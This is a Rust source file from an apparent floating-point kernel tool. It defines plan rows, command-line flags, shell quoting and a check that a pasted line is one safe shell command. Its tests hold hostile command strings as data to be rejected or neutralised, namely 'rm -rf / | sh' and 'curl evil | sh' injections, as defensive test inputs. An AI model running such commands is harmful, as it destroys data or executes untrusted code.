//! One row of a plan: a kernel with its epsilons, and the contract it is judged by. It parses, prints
//! and serialises, so that every file and every printed command can show the same row again.

use crate::arith::Float;
use crate::contract::Contract;
use crate::kernel::{Entry, EpsilonText, Gate, Tunable};
use crate::printable::is_obeyed;
use hairline_core::{Error, ErrorKind};
use serde::{Deserialize, Serialize};

/// A kernel with its epsilons: a row of every table.
#[derive(Clone)]
pub struct Row {
    /// The kernel.
    pub entry: &'static Entry,
    /// The name of its epsilons: `source`, `zero`, `parallel=1e-6`.
    pub set: String,
    /// One a gate.
    pub epsilons: Vec<EpsilonText>,
    /// The contract it is judged by, its band included.
    pub contract: Contract,
}

/// A [`Row`] as text alone, for files: the kernel's name says its arithmetic too.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RowSpec {
    /// The kernel's name: `moller-trumbore+fma`.
    pub kernel: String,
    /// The name of its epsilons; made from their values if it is not given.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub set: Option<String>,
    /// As `--epsilon` takes them; as the source has them if none are given.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub epsilons: Option<String>,
    /// As `--contract` takes it; `own` for the kernel's own.
    pub contract: String,
}

impl Row {
    /// The row as text, its set included.
    pub fn spec(&self) -> RowSpec {
        RowSpec {
            kernel: self.entry.info.name.to_owned(),
            set: Some(self.set.clone()),
            epsilons: self.epsilon_argument(),
            contract: self.contract.words(Some(&self.entry.info.contract)),
        }
    }

    /// `kernel (set)`.
    pub fn label(&self) -> String {
        format!("{} ({})", self.entry.info.name, self.set)
    }

    /// An error if an epsilon is too large for a scalar, or so small that it is 0 there.
    pub fn check<F: Float>(&self) -> Result<(), Error> {
        for (gate, text) in self.tuned() {
            if text.fitting::<F>().is_some() {
                continue;
            }
            let wrong = if text.value::<F>().is_some() {
                "0 in"
            } else {
                "beyond the range of"
            };
            let (name, gate, scalar) = (self.entry.info.name, gate.name, F::NAME);
            let line =
                format!("gate '{gate}' of {name}: {text} is {wrong} {scalar} (see --scalar)");
            return Err(Error::new(ErrorKind::OutOfRange, line));
        }
        Ok(())
    }

    /// The same in `f32`, and in `f64`, each if it is chosen and the kernel runs in it.
    pub fn check_in(&self, scalars: [bool; 2]) -> Result<(), Error> {
        let [in_f32, in_f64] = self.entry.scalars();
        if scalars[0] && in_f32 {
            self.check::<f32>()?;
        }
        if scalars[1] && in_f64 {
            self.check::<f64>()?;
        }
        Ok(())
    }

    /// The epsilons in a scalar, one a gate; 0 for one that [`Row::check`] refuses.
    pub fn epsilons<F: Float>(&self) -> Vec<F> {
        self.epsilons
            .iter()
            .map(|text| text.value().unwrap_or(F::zero()))
            .collect()
    }

    /// The gates that take an epsilon, with theirs.
    pub fn tuned(&self) -> impl Iterator<Item = (&'static Gate, &EpsilonText)> {
        let gates = self.entry.info.gates.iter().zip(&self.epsilons);
        gates.filter(|(gate, _)| gate.epsilon != Tunable::Fixed)
    }

    /// The `--epsilon` argument that makes this row again; none if no gate takes an epsilon.
    pub fn epsilon_argument(&self) -> Option<String> {
        let words: Vec<String> = self
            .tuned()
            .map(|(gate, text)| format!("{}={text}", gate.name))
            .collect();
        (!words.is_empty()).then(|| words.join(","))
    }

    /// The flags that make this row again: `--kernel`, `--epsilon`, `--contract` and `--band`.
    pub fn flags(&self) -> String {
        let RowSpec {
            epsilons, contract, ..
        } = self.spec();
        flags(&self.entry.selector(), epsilons.as_deref(), &contract)
    }

    /// `hairline explain` of what the arguments name, with this row.
    pub fn explain_command(&self, arguments: &str) -> String {
        format!("hairline explain {arguments} {}", self.flags())
    }
}

/// The flags of a row: how its kernel is chosen, and its epsilons and contract in words.
pub fn flags(selector: &str, epsilons: Option<&str>, contract: &str) -> String {
    let (bands, others): (Vec<&str>, Vec<&str>) = contract
        .split(',')
        .partition(|word| word.starts_with("band="));
    let contract = Some(others.join(",")).filter(|words| words != "own");
    let flags = [
        Some(selector.to_owned()).filter(|selector| !selector.is_empty()),
        epsilons.map(|epsilons| format!("--epsilon '{epsilons}'")),
        contract.map(|words| format!("--contract {words}")),
        bands
            .first()
            .map(|band| band.replacen("band=", "--band ", 1)),
    ];
    flags.into_iter().flatten().collect::<Vec<_>>().join(" ")
}

/// A word for a shell, without quotes where none are needed.
pub fn shell_word(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:,=^+-".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        quoted(word)
    }
}

/// True if a shell takes a line as one command with words as they stand, whatever the words are: a line that somebody else
/// wrote is shown to be pasted only then. Words are plain, or stand in apostrophes, as [`quoted`] writes them.
pub fn is_one_command(line: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_./:,=^+-@%".contains(c);
    let mut rest = line;
    while let Some(first) = rest.chars().next() {
        let after = match first {
            '\'' => rest[1..].split_once('\'').map(|(_, after)| after),
            ' ' => Some(&rest[1..]),
            '\\' => rest.strip_prefix("\\'"),
            _ if is_plain(first) => Some(rest.trim_start_matches(is_plain)),
            _ => None,
        };
        let Some(after) = after else { return false };
        rest = after;
    }
    !line.chars().any(is_obeyed)
}

/// A word for a shell, in quotes.
pub fn quoted(word: &str) -> String {
    format!("'{}'", word.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_of_somebody_else_is_one_command_or_is_not_shown() {
        let word = "it's $(a) `b`; rm -rf / | sh > x & \"";
        for line in [
            "hairline explain 'tiny@3/f32/-/1/0' --kernel cramer+fma",
            &quoted(word),
            "",
            "a  b",
        ] {
            assert!(is_one_command(line), "{line}");
        }
        let wrong = [
            "hairline explain 'x'; curl evil | sh",
            "a\nb",
            "'a\nb'",
            "$(a)",
            "`a`",
            "a > b",
            "a & b",
            "a|b",
            "'a",
            "a\\",
            "a\\;b",
            "~/a",
            "a*",
            "#a",
            "\"a\"",
            "'\u{1b}[2J'",
            "'\u{202e}'",
            "a=$b",
            "{a,b}",
            "!a",
            "\u{a0}",
        ];
        for line in wrong {
            assert!(!is_one_command(line), "{line}");
        }
    }

    #[test]
    fn a_quote_in_a_word_stays_one_word() {
        assert_eq!(quoted("a b"), "'a b'");
        assert_eq!(quoted("it's"), "'it'\\''s'");
    }
}
